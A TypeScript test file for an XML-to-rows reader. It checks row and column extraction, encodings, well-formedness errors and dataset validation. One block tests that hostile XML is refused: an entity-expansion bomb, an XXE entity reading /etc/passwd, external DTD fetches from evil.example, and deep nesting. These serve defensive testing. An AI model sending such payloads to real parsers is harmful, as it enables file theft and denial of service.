import { describe, expect, test } from 'vitest';
import { readXml, readXmlRows, type XmlReadOptions } from './index.js';

const found = (text: string | Uint8Array, options?: XmlReadOptions) =>
  readXmlRows(text, options).findings.map(({ code, position }) => [code, position?.line]);

const register = `<?xml version="1.0" encoding="UTF-8"?>
<visits>
    <title>Visits</title>
    <visit n="1">
        <id>2138</id>
        <from id="hawaii">Hawaii</from>
        <visitor><name>King Kalakaua</name></visitor>
        <description>In U.S.
            November 29 &amp; on. <b>First</b> visit.</description>
    </visit>
    <visit n="2">
        <id>2139</id>
        <visitor><name>A</name></visitor>
        <visitor><name><![CDATA[B & C]]></name></visitor>
        <empty/>
    </visit>
</visits>`;

describe('rows of a register', () => {
  test('are the elements that repeat, with their paths as columns', () => {
    const { rows, row, columns, findings } = readXmlRows(register, { file: 'visits.xml' });
    expect(row).toBe('visits/visit');
    expect(findings).toEqual([]);
    expect(columns).toEqual(['@n', 'id', 'from/@id', 'from', 'visitor/name', 'description/b', 'description']);
    expect(rows).toEqual([
      {
        cells: {
          '@n': '1',
          id: '2138',
          'from/@id': 'hawaii',
          from: 'Hawaii',
          'visitor/name': 'King Kalakaua',
          'description/b': 'First',
          description: 'In U.S. November 29 & on. First visit.',
        },
        at: { file: 'visits.xml', row: 1, line: 4 },
      },
      {
        cells: { '@n': '2', id: '2139', 'visitor/name': ['A', 'B & C'] },
        at: { file: 'visits.xml', row: 2, line: 11 },
      },
    ]);
  });

  test('may be named', () => {
    const { rows } = readXmlRows(register, { row: 'visitor' });
    expect(rows.map(({ cells }) => cells)).toEqual([
      { name: 'King Kalakaua' },
      { name: 'A' },
      { name: 'B & C' },
    ]);
    expect(found(register, { row: 'trip' })).toEqual([['no-rows', undefined]]);
  });

  test('keep their blanks when that is asked for', () => {
    const { rows } = readXmlRows('<a><b> x\n y </b><b/></a>', { keepSpace: true });
    expect(rows[0]?.cells).toEqual({ '.': ' x\n y ' });
  });

  test('are in the encoding that the file declares', () => {
    const start = '<?xml version="1.0" encoding="windows-1251"?><a><b><c>';
    const bytes = Uint8Array.from([
      ...new TextEncoder().encode(start),
      0xc8,
      0xe2,
      ...new TextEncoder().encode('</c></b><b/></a>'),
    ]);
    expect(readXmlRows(bytes)).toMatchObject({
      encoding: 'windows-1251',
      findings: [],
      rows: [{ cells: { c: 'Ив' } }, {}],
    });
  });
});

describe('XML that is meant to do harm', () => {
  const refused = [['doctype-refused', 1]];

  test('entities that grow are not read', () => {
    const entities = Array.from(
      { length: 9 },
      (_, n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(10)}">`,
    ).join('');
    const text = `<!DOCTYPE a [<!ENTITY e0 "lol">${entities}]><a><b>&e9;</b></a>`;
    const started = performance.now();
    expect(found(text)).toEqual(refused);
    expect(readXmlRows(text).rows).toEqual([]);
    expect(performance.now() - started).toBeLessThan(500);
  });

  test.each([
    '<!DOCTYPE a [<!ENTITY f SYSTEM "file:///etc/passwd">]><a><b>&f;</b></a>',
    '<!DOCTYPE a SYSTEM "https://evil.example/a.dtd"><a><b/></a>',
    '<!DOCTYPE a [<!ENTITY % p SYSTEM "https://evil.example/p"> %p;]><a/>',
  ])('%s', (text) => {
    expect(found(text)).toEqual(refused);
    expect(readXml(text).report.findings.map(({ code }) => code)).toEqual(['doctype-refused']);
  });

  test('nesting without end', () => {
    expect(found('<a>'.repeat(100_000)).map(([code]) => code)).toEqual(['too-deep']);
  });
});

test.each([
  ['<a><b>1</b><b>2</a>', 'unexpected close tag'],
  ['<a><b>&nbsp;</b></a>', 'undefined entity'],
  ['<a><b x="1" x="2"/></a>', 'duplicate attribute'],
  ['just words', 'text data outside'],
  ['<a><b>', 'unclosed tag'],
])('%s is not well-formed: %s', (text, reason) => {
  const [finding] = readXmlRows(text).findings;
  expect(finding).toMatchObject({ code: 'invalid-xml', position: { line: 1 } });
  expect(finding?.message.toLowerCase()).toContain(reason);
});

test('what stands before a mistake is read', () => {
  const { rows, findings } = readXmlRows('<a>\n<b><c>1</c></b>\n<b><c>2</c></b>\n<b><c>3</b></a>');
  expect(rows).toHaveLength(2);
  expect(findings).toMatchObject([{ code: 'invalid-xml', cell: { row: 3, line: 4 } }]);
});

describe('a dataset', () => {
  test('tells on which line a record is wrong', () => {
    const { report } = readXml(
      `<comity>\n<source>https://example.org/</source>\n<visits>\n<visit>\n<id>v</id>\n<kind>state</kind>\n<startDate>2025-13</startDate>\n</visit>\n</visits>\n</comity>`,
    );
    expect(report.findings).toMatchObject([{ code: 'invalid-date', cell: { row: 1, line: 7 } }]);
  });

  test('is not what another register is', () => {
    expect(readXml(register).report.findings).toMatchObject([{ code: 'not-this-format' }]);
  });
});
